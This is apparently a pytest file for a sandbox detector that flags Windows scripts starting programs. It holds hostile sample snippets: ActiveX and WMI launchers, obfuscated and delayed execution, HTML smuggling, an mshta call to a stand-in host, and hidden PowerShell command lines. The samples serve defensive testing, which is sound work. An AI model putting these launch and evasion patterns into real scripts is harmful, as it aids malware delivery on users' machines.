"""What traced_script_starts_programs must find in running code, and (more) what it must leave alone."""

from __future__ import annotations

import pytest

from tests import files
from tests import files_sandbox as sandbox
from tests import files_scripts as scripts
from tests.workers.attachments.scan import File
from tests.workers.sandbox.run import HARMLESS, found

BAD: dict[str, File] = {
    "JavaScript": ("a.js", sandbox.DROPPER_JS),
    "in a zip": ("a.zip", files.zip_file({"invoice.js": sandbox.DROPPER_JS})),
    "encoded": ("a.jse", sandbox.encoded(sandbox.DROPPER_JS.decode())),
    "VBScript": ("a.vbs", sandbox.DROPPER_VBS),
    "HTA": ("a.hta", b'<script language=vbscript>CreateObject("WScript.Shell").Run "cmd /c whoami"</script>'),
    "WMI": ("a.js", b'GetObject("winmgmts:root\\\\cimv2:Win32_Process").Create("rundll32 a.dll,b")'),
    "by a function out of text": (
        "a.js",
        b"[]['filter']['constructor']('new ActiveXObject(\"WScript.Shell\").Run(\"a.exe\")')()",
    ),
    "script file of Windows": (
        "a.wsf",
        b"<job><script language='JScript'>new ActiveXObject('WScript.Shell').Exec('cmd /c a')</script></job>",
    ),
    "the shell of Explorer": (
        "a.js",
        b'new ActiveXObject("Shell.Application").ShellExecute("mshta", "http://a.example/")',
    ),
    "conditional compilation": (
        "a.js",
        b'/*@cc_on @if (@_jscript) new ActiveXObject("WScript.Shell").Run("cmd /c a"); @end @*/',
    ),
}
BAD["behind much else"] = (
    "a.js",
    b"var shell = new ActiveXObject('WScript.Shell'), files = new ActiveXObject('Scripting.FileSystemObject');"
    b"var web = new ActiveXObject('MSXML2.XMLHTTP'); for (var i = 0; i < 25; i++) { shell.Run('notepad ' + i + '.txt');"
    b"WScript.Echo(i); WScript.Sleep(i); var file = files.CreateTextFile(i + '.txt'); file.Write('a'); file.Close();"
    b"files.DeleteFile(i + '.txt'); shell.RegWrite('HKCU/' + i, i); web.open('GET', 'http://a.example/' + i, false);"
    b"web.send() } shell.Run('cmd /c a')",
)
BAD["behind a long wait"] = (
    "a.js",
    b"for (var i = 0; i < 400; i++) { WScript.Sleep(i); WScript.Echo('Wait') }"
    b"new ActiveXObject('WScript.Shell').Run('cmd /c a')",
)
BAD["handed over by a page"] = ("page.html", scripts.smuggling_page(sandbox.DROPPER_JS, "invoice.js"))
GOOD: dict[str, File] = {
    **HARMLESS,
    "a calculator": ("a.vbs", b'CreateObject("WScript.Shell").Run "calc.exe"'),
}


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    (finding,) = found("traced_script_starts_programs", file)
    assert finding.detail
    assert finding.where.decoded


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("traced_script_starts_programs", file) == []


def runs(line: str) -> bytes:
    return f'CreateObject("WScript.Shell").Run "{line}"'.encode()


WEIGHTS: dict[str, tuple[File, float]] = {
    "a command line": (("a.vbs", runs("cmd /c del a")), 6.0),
    "with its folder": (("a.vbs", runs(r"C:\Windows\System32\cmd.exe /c a.exe")), 6.0),
    "by its variable": (("a.vbs", runs("%COMSPEC% /c a.exe")), 6.0),
    "PowerShell": (("a.vbs", runs("powershell -w hidden -file a.ps1")), 6.0),
    "in an HTA": (("a.hta", b"<script language=vbscript>" + runs("cmd /c a.exe") + b"</script>"), 6.0),
    "JavaScript": (("a.js", b'new ActiveXObject("WScript.Shell").Run("pwsh a.ps1")'), 6.0),
    "a program": (("a.vbs", runs("backup.exe /all")), 4.0),
    "one with such a name": (("a.vbs", runs("cmdb.exe /all")), 4.0),
    "in such a folder": (("a.vbs", runs(r"C:\cmd\backup.exe")), 4.0),
    "drives that are connected": (("a.vbs", runs(r"cmd /c net use x: \\server\share")), 4.0),
    "administration": (("a.ps1", b"Start-Process backup.exe -ArgumentList '/all'"), 2.0),
    "with a command line": (("a.ps1", b"Start-Process cmd.exe -ArgumentList '/c backup'"), 2.0),
}


@pytest.mark.parametrize(("file", "weight"), WEIGHTS.values(), ids=WEIGHTS)
def test_weight(file: File, weight: float) -> None:
    (finding,) = found("traced_script_starts_programs", file)
    assert finding.weight == weight
